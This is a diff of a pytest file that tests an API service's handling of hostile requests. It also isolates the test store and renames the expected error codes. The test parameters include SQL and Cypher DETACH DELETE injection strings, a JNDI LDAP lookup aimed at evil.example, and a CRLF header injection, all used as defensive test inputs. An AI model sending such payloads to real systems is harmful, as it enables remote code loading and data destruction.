@@ -19,7 +19,7 @@ import pytest
 from api.models import Problem
 from core.roles import Role
 from core.settings import Settings
-from graph import Store, load_plan
+from graph import Engine, Store, load_plan
 from ingest import example, read_plan
 from queries import load_catalogue
 from tests.api.callers import with_keys
@@ -45,13 +45,12 @@ class Attacked(Target):
 
 
 @pytest.fixture(scope="module")
-def target(
-    engine_settings: Settings, engine_store: Store, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[Attacked]:
-    """The service on each engine, with small limits and the example plan."""
-    load_plan(engine_store, read_plan(example()))
+def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
+    """The service with small limits, on the example plan in a store of its own: what counts without end ends with it."""
     folder = tmp_path_factory.mktemp("hostile")
-    settings, shown = with_keys(engine_settings, folder / "service")
+    settings, shown = with_keys(Settings(store=str(folder / "store")), folder / "service")
+    with Store.open(settings) as store:
+        load_plan(store, read_plan(example()))
     small = replace(
         settings,
         hosts=(),
@@ -63,6 +62,7 @@ def target(
     )
     with serving(small, folder / "log") as port:
         yield Attacked(port, shown, folder / "log", folder / "service")
+    Engine.of(settings).stop()
 
 
 def check(answer: Answer, status: int, code: str) -> None:
@@ -139,7 +139,7 @@ def test_framing(target: Attacked, headers: str, body: bytes, status: int, code:
     "media", ["", "text/plain", "application/xml", "application/json-x", "multipart/form-data", "*/*"]
 )
 def test_media_types(target: Attacked, media: str) -> None:
-    check(target.post("/v1/cypher", b'{"statement": "RETURN 1"}', media), 415, "http-415")
+    check(target.post("/v1/cypher", b'{"statement": "RETURN 1"}', media), 415, "media-type")
 
 
 NOWHERE = (404, "no-such-address")
@@ -171,8 +171,8 @@ NOWHERE = (404, "no-such-address")
         pytest.param("/v1/plans/" + "%F0%9F%98%80" * 100, 404, "not-found", id="beyond the plane"),
         pytest.param("/v1/plans/" + "x" * 8000, 404, "not-found", id="long id"),
         pytest.param("/v1/plans/x'%20OR%201=1%20--", 404, "not-found", id="SQL"),
-        pytest.param("/v1/plans/x'})%20DETACH%20DELETE%20n%20//", 404, "not-found", id="Cypher"),
-        pytest.param("/v1/plans/$%7bjndi:ldap://evil.example/x%7d", 404, "not-found", id="a log's lookup"),
+        pytest.param("/v1/plans/x'})%20DETACH%20DELETE%20n%20//", 404, "no-such-address", id="Cypher"),
+        pytest.param("/v1/plans/$%7bjndi:ldap://evil.example/x%7d", 404, "no-such-address", id="a log's lookup"),
         pytest.param("/v1/measures/%0d%0aSet-Cookie:x=1", *NOWHERE, id="line breaks"),
         pytest.param("/v1/plans/" + "x" * 20_000, 414, "address-too-long", id="too long"),
         pytest.param("/v1/plans?" + "a=1&" * 5000, 414, "address-too-long", id="too many parameters"),
@@ -260,8 +260,8 @@ def test_many_headers_within_the_limit_are_none_of_our_business(target: Attacked
     [
         pytest.param("POST", "/v1/plans", None, 401, "unauthorized", id="upload without a key"),
         pytest.param("POST", "/v1/plans", Role.reader, 403, "forbidden", id="upload by a reader"),
-        pytest.param("POST", "/v1/plans", Role.editor, 415, "http-415", id="upload by an editor"),
-        pytest.param("POST", "/v1/plans", Role.admin, 415, "http-415", id="upload by an admin"),
+        pytest.param("POST", "/v1/plans", Role.editor, 415, "media-type", id="upload by an editor"),
+        pytest.param("POST", "/v1/plans", Role.admin, 415, "media-type", id="upload by an admin"),
         pytest.param("DELETE", "/v1/plans/x", None, 401, "unauthorized", id="delete without a key"),
         pytest.param("DELETE", "/v1/plans/x", Role.reader, 403, "forbidden", id="delete by a reader"),
         pytest.param("DELETE", "/v1/plans/x", Role.editor, 404, "not-found", id="delete by an editor"),
